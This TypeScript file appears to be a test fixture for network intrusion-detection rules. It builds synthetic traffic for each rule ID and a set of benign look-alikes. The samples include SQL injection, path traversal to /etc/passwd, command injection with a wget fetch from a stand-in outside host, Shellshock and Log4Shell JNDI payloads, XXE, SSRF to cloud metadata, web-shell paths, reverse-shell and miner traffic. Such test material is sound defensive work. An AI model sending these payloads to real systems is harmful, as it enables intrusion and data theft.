import { CHECK_PATH } from './rules.ts'
import type { Said, Talk } from './test-pcap.ts'

/** Addresses of a made-up installation. */
export const PLACE = { name: 'trial', subnet: '10.77' } as const
const AT = {
  door: '10.77.128.1',
  app: '10.77.130.5',
  outside: '198.51.100.9',
  /** Instances reach the platform's own only. */
  resolver: '10.77.128.1',
} as const
export const VISITOR = '203.0.113.7'

type Shape = Omit<Talk, 'port'>

const client = (text: string | Buffer): Said => ({ from: 'client', text })
const server = (text: string): Said => ({ from: 'server', text })
const answer = (body: string) =>
  server(`HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}`)
const toApp = (...said: Said[]): Shape => ({
  ...{ protocol: 'tcp', client: AT.door, server: AT.app, to: 8080 },
  said,
})
const fromApp = (to: number, ...said: Said[]): Shape => ({
  ...{ protocol: 'tcp', client: AT.app, server: AT.outside, to },
  said,
})

const heads = (more: readonly string[]) =>
  ['Host: shop.example.org', ...more, `X-Forwarded-For: ${VISITOR}`].map((line) => `${line}\r\n`).join('')
const ask = (uri: string, ...more: string[]) => client(`GET ${uri} HTTP/1.1\r\n${heads(more)}\r\n`)
const send = (uri: string, type: string, body: string, ...more: string[]) =>
  client(
    `POST ${uri} HTTP/1.1\r\n${heads([`Content-Type: ${type}`, `Content-Length: ${body.length}`, ...more])}\r\n${body}`,
  )
const form = 'application/x-www-form-urlencoded'

/** A request through the edge, and an answer. */
export const get = (uri: string, ...more: string[]): Shape => toApp(ask(uri, ...more), answer('ok'))
const post = (uri: string, type: string, body: string) => toApp(send(uri, type, body), answer('ok'))

/** A question for a name. */
function question(name: string): Shape {
  const labels = name
    .split('.')
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]))
  const head = Buffer.from('1234010000010000000000' + '00', 'hex')
  const body = Buffer.concat([head, ...labels, Buffer.from('0000010001', 'hex')])
  return { protocol: 'udp', client: AT.app, server: AT.resolver, to: 53, said: [client(body)] }
}

const packed = (at: number) =>
  `${'abcdefgh0123456789'.repeat(3)}${at}.${'zyxwvu9876543210'.repeat(3)}.evil.example.org`

const braced = (text: string) => ['$', '{', text, '}'].join('')
const LOOK_UP = braced('jndi:ldap://198.51.100.9/a')

/** For each rule what it is there for, in several ways of writing it. */
export const ATTACKS: Readonly<Record<number, readonly Shape[]>> = {
  7000001: [
    get("/items?id=1'%20UNION%20SELECT%20name,password%20FROM%20users--"),
    get('/items?id=-1+union+all+select+null,null,version()'),
    get('/items?id=1/**/union/**/select/**/1,2,3'),
  ],
  7000002: [get("/login?user=admin'%20or%20'1'='1"), get("/login?user=a')+OR+(1=1--")],
  7000003: [
    get('/items?id=1;select%20pg_sleep(5)'),
    get('/items?id=1);%20DROP%20TABLE%20users'),
    get("/items?id=1'+and+(select+1+from+information_schema.tables)"),
  ],
  7000010: [get('/static/../../../../etc/hostname'), get('/static/..%2f..%2f..%2f..%2fapp/secret.js')],
  7000011: [get('/page?file=/etc/passwd'), get('/page?file=%2fproc%2fself%2fenviron')],
  7000020: [
    get('/ping?host=127.0.0.1;cat%20/etc/hostname'),
    get('/ping?host=%60id%60'),
    get('/ping?host=a|wget+http://198.51.100.9/x'),
    get('/ping?host=$(id)'),
  ],
  7000021: [get('/', 'User-Agent: () { :; }; /bin/echo hello')],
  7000030: [get(`/?q=${LOOK_UP}`), get('/?q=%24%7Bjndi:ldap://198.51.100.9/a%7D')],
  7000031: [
    get('/', `User-Agent: ${LOOK_UP}`),
    get('/', `X-Api-Version: ${braced(`${braced('lower:j')}ndi:ldap://198.51.100.9/a`)}`),
  ],
  7000032: [
    post('/login', form, `user=${LOOK_UP}`),
    post('/form', 'application/json', `{"text":"${'x'.repeat(50_000)}${LOOK_UP}"}`),
  ],
  7000040: [get('/uploads/c99.php'), get('/cmd.jsp?c=id')],
  7000050: [get('/.env'), get('/.git/config'), get('/actuator/env')],
  7000051: [get('/', 'User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)')],
  7000060: [
    get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    get('/search?q=<img+src=x+onerror=alert(1)>'),
  ],
  7000061: [
    get('/fetch?url=http://169.254.169.254/latest/meta-data/'),
    get('/fetch?url=gopher://127.0.0.1:6379/'),
  ],
  7000062: [
    post('/import', 'application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'),
  ],
  7000063: [get('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x')],
  7000064: [get('/hello?name=%7B%7B7*7%7D%7D'), get(`/hello?name=${braced('7*7')}`)],
  7000065: [post('/', form, 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp')],
  7000070: [toApp(ask('/page?name=x'), answer('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:'))],
  7000099: [
    {
      ...toApp(client(`GET ${CHECK_PATH}abcdef1234567890 HTTP/1.1\r\nHost: x\r\n\r\n`), answer('')),
      client: AT.app,
      server: AT.door,
    },
  ],
  7000100: [
    fromApp(
      443,
      client('ELSE \x01\x02\x03 what is this \x04\x05'),
      server('\x05\x04 nothing of the web \x01'),
    ),
  ],
  7000101: [
    {
      protocol: 'udp',
      client: AT.app,
      server: AT.resolver,
      to: 53,
      said: [client(Buffer.from('123401000001000000000000ff6161', 'hex'))],
    },
  ],
  7000110: [
    fromApp(3333, client('{"id":1,"method":"mining.subscribe","params":["miner/1"]}\n'), server('{}\n')),
  ],
  7000111: [question('pool.supportxmr.com')],
  7000112: [fromApp(443, client(hello('xmr.2miners.com')), server('x'))],
  7000120: Array.from({ length: 10 }, (_, at) => question(packed(at))),
  7000130: [fromApp(4444, client("sh: can't access tty; job control turned off\n$ "), server('id\n'))],
  7000131: [
    fromApp(
      80,
      client('GET /b/x86_64 HTTP/1.1\r\nHost: 198.51.100.9\r\nUser-Agent: curl/8\r\n\r\n'),
      answer('x'),
    ),
  ],
  7000132: [fromApp(6667, client('NICK b0t\r\nUSER b0t 0 * :b0t\r\n'), server(':x 001\r\n'))],
  7000133: [fromApp(445, client(Buffer.from(SMB_HELLO(), 'hex')), server('x'))],
  7000140: [
    fromApp(
      80,
      client('GET / HTTP/1.1\r\nHost: api.example.net\r\nAuthorization: Basic YTpi\r\n\r\n'),
      answer('x'),
    ),
  ],
  7000141: [
    fromApp(
      21,
      server('220 hello\r\n'),
      client('USER a\r\n'),
      server('331 now\r\n'),
      client('PASS b\r\n'),
      server('230 in\r\n'),
    ),
  ],
  7000142: [
    fromApp(
      25,
      server('220 mx ESMTP\r\n'),
      client('EHLO a\r\n'),
      server('250-mx\r\n250 AUTH PLAIN\r\n'),
      client('AUTH PLAIN AGEAYg==\r\n'),
      server('235 ok\r\n'),
    ),
  ],
}

/** The first message of TLS, which says whom it asks for. */
function hello(name: string): Buffer {
  const word = (value: number, bytes: number) => {
    const out = Buffer.alloc(bytes)
    out.writeUIntBE(value, 0, bytes)
    return out
  }
  const list = Buffer.concat([Buffer.from([0]), word(name.length, 2), Buffer.from(name)])
  const sni = Buffer.concat([word(0, 2), word(list.length + 2, 2), word(list.length, 2), list])
  const body = Buffer.concat([
    Buffer.from([3, 3]),
    Buffer.alloc(32, 7),
    Buffer.from([0, 0, 2, 0x13, 0x01, 1, 0]),
    word(sni.length, 2),
    sni,
  ])
  const message = Buffer.concat([Buffer.from([1]), word(body.length, 3), body])
  return Buffer.concat([Buffer.from([22, 3, 1]), word(message.length, 2), message])
}

function SMB_HELLO(): string {
  const head = `fe534d42400000000000000000001f00${'00'.repeat(48)}`
  const body = `2400010001000000000000${'00'.repeat(25)}0202`
  const length = (head.length + body.length) / 2
  return `00${length.toString(16).padStart(6, '0')}${head}${body}`
}

const BROWSER =
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'
const words = (text: string) => get(`/search?q=${encodeURIComponent(text)}`, BROWSER)

/** What people and programs do all day, and what only looks like an attack. */
export const ORDINARY: readonly Shape[] = [
  ...['/', '/health', '/style.css?v=3', '/api/items?limit=20&offset=40&sort=name|id', '/favicon.ico'].map(
    (uri) => get(uri, BROWSER),
  ),
  ...[
    '/a/b;id=5?x=1&id=2',
    '/docs/etc/passwd-format',
    '/docs/../about',
    '/wiki/SQL_injection',
    '/login?next=/account',
  ].map((uri) => get(uri)),
  ...[
    '/callback?code=abc.def&state=x%3D%3D',
    '/image?url=https%3A%2F%2Fcdn.example.org%2Fa.png',
    '/.well-known/acme-challenge/x',
  ].map((uri) => get(uri)),
  ...[
    'student union select committee',
    'select a union from the list',
    "O'Reilly and Sons or others",
    'rock and roll = life',
  ].map(words),
  ...[
    'how to sleep (8 hours)',
    'python time.sleep(5)',
    'sleep(10) in C',
    'drop table lamp',
    'Tom & Jerry; cat pictures',
    'script for a play',
    '5 * 7',
    'a < b and b > c',
  ].map(words),
  ...[
    "Rock 'n' Roll",
    'bash|sh|zsh',
    'union members: 5',
    `price ${braced('total')}`,
    '{{ name }}',
    'ping 8 people',
    '../picture.png',
  ].map(words),
  get('/', 'Authorization: Basic YTpi', BROWSER),
  get(
    '/private',
    'Cookie: session=eyJhbGciOiJIUzI1NiJ9.e30.abc; theme=dark',
    'Referer: https://shop.example.org/?q=1',
  ),
  post('/notes', form, 'text=SELECT+%2A+FROM+users+WHERE+1%3D1%3B+--+my+homework+on+union+select'),
  post('/notes', 'application/json', '{"text":"<script>hello()</script> and ../../../x; cat /etc/passwd"}'),
  post('/notes', 'application/xml', '<note><to>A</to><body>no entity here</body></note>'),
  post(
    '/upload',
    'multipart/form-data; boundary=x',
    `--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php echo 1;\r\n--x--\r\n`,
  ),
  post('/upload', 'application/octet-stream', '\x00\x01\x02'.repeat(60_000)),
  toApp(...Array.from({ length: 30 }, () => [ask('/health'), answer('ok')]).flat()),
  toApp(ask('/man/passwd.5'), answer('<p>A line such as root:x:0:0:root:/root:/bin/bash</p>')),
  toApp(
    ask('/socket', 'Upgrade: websocket', 'Connection: Upgrade'),
    server('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'),
    client('\x81\x05hello'),
    server('\x81\x05hello'),
  ),
  ...[
    'registry.npmjs.org',
    'api.example.net',
    'd111111abcdef8.cloudfront.net',
    'a-very-long-host-name-of-somebody.eu-central-1.elb.amazonaws.com',
  ].map(question),
  fromApp(443, client(hello('api.example.net')), server('\x16\x03\x03\x00\x02hi')),
  fromApp(
    80,
    client('GET /v1/rates.json HTTP/1.1\r\nHost: api.example.net\r\nUser-Agent: node\r\n\r\n'),
    answer('{}'),
  ),
  fromApp(
    25,
    server('220 mx ESMTP\r\n'),
    client('EHLO a\r\n'),
    server('250-mx\r\n250 STARTTLS\r\n'),
    client('STARTTLS\r\n'),
    server('220 go\r\n'),
    client(hello('mx.example.net')),
    server('\x16\x03\x03\x00\x02hi'),
  ),
]
